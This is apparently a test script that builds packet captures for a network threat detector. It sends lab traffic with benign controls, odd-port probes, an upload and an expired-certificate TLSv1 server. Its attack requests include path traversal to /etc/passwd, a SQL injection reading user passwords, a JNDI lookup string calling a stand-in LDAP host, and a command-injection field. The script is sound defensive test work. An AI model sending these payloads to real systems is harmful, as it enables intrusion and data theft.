# Attacks on a web server, protocols on ports of others, old TLS, an expired certificate, data sent away, text for language models.
source "$(dirname "$0")/lib.sh"
source "$record_dir/threat-stage.sh"
need curl openssl

ip -n sonde-thr-attacker addr add 10.0.0.5/24 dev eth0
ip -n sonde-thr-victim addr add 203.0.113.9/24 dev eth0
ip -n sonde-thr-attacker route add 203.0.113.0/24 dev eth0 src 10.0.0.5
ip -n sonde-thr-victim route add 10.0.0.0/24 dev eth0
daemon thr-victim python3 "$tools" answer 80 3306 4444 443
until_true "ip netns exec sonde-thr-victim ss -Hltn | grep -q ':4444 '"

record thr-victim eth0 web-attack.pcapng "tcp port 80"
attack curl -s -m 2 --path-as-is "http://192.0.2.80/cgi-bin/.%2e/.%2e/.%2e/etc/passwd"
attack curl -s -m 2 "http://192.0.2.80/item?id=1%27%20UNION%20SELECT%20name,pass%20FROM%20users--"
attack curl -s -m 2 -A '${jndi:ldap://192.0.2.66/a}' http://192.0.2.80/
attack curl -s -m 2 -d 'q=;cat /etc/hosts' http://192.0.2.80/run
stop
record thr-victim eth0 calm-web.pcapng "tcp port 80"
attack curl -s -m 2 "http://192.0.2.80/search?q=select+a+union+for+my+pipe"
attack curl -s -m 2 "http://192.0.2.80/a/b/c.html"
attack curl -s -m 2 -d 'comment=please+order+by+friday' http://192.0.2.80/form
stop
record thr-victim eth0 odd-ports.pcapng "tcp port 3306 or tcp port 4444 or tcp port 443"
attack curl -s -m 2 http://192.0.2.80:3306/
attack python3 "$tools" talk 192.0.2.80 4444
attack python3 "$tools" talk 192.0.2.80 443
stop
record thr-victim eth0 upload.pcapng "host 203.0.113.9"
head -c 50000 /dev/zero | tr '\0' x >"$work/data"
attack curl -s -m 5 -T "$work/data" http://203.0.113.9/store
stop
record thr-victim eth0 instructions-web.pcapng "tcp port 80"
attack curl -s -m 2 http://192.0.2.80/instructions
stop

openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=old.example.test -days 1 -keyout "$work/key.pem" -out "$work/own.pem" 2>>"$work/openssl.log"
mkdir -p "$work/ca" && : >"$work/ca/index" && echo 01 >"$work/ca/serial"
printf '%s\n' '[ca]' 'default_ca=own' '[own]' "dir=$work/ca" "database=$work/ca/index" "serial=$work/ca/serial" "new_certs_dir=$work/ca" \
  'default_md=sha256' 'policy=any' '[any]' 'commonName=supplied' >"$work/ca.cnf"
openssl req -new -key "$work/key.pem" -subj /CN=old.example.test -out "$work/request.pem" 2>>"$work/openssl.log"
openssl ca -batch -config "$work/ca.cnf" -keyfile "$work/key.pem" -cert "$work/own.pem" -startdate 20190101000000Z -enddate 20200101000000Z \
  -in "$work/request.pem" -out "$work/expired.pem" -notext 2>>"$work/openssl.log"
printf '%s\n' 'openssl_conf=init' '[init]' 'ssl_conf=ssl' '[ssl]' 'system_default=all' '[all]' 'MinProtocol=TLSv1' 'CipherString=ALL:@SECLEVEL=0' >"$work/old.cnf"
export OPENSSL_CONF="$work/old.cnf"
daemon thr-victim openssl s_server -quiet -accept 8443 -cert "$work/expired.pem" -key "$work/key.pem" -tls1
until_true "ip netns exec sonde-thr-victim ss -Hltn | grep -q ':8443 '"
record thr-victim eth0 tls-old.pcapng "tcp port 8443"
for n in 1 2 3; do attack bash -c "echo hello | timeout 2 openssl s_client -connect 192.0.2.80:8443 -tls1"; done
stop
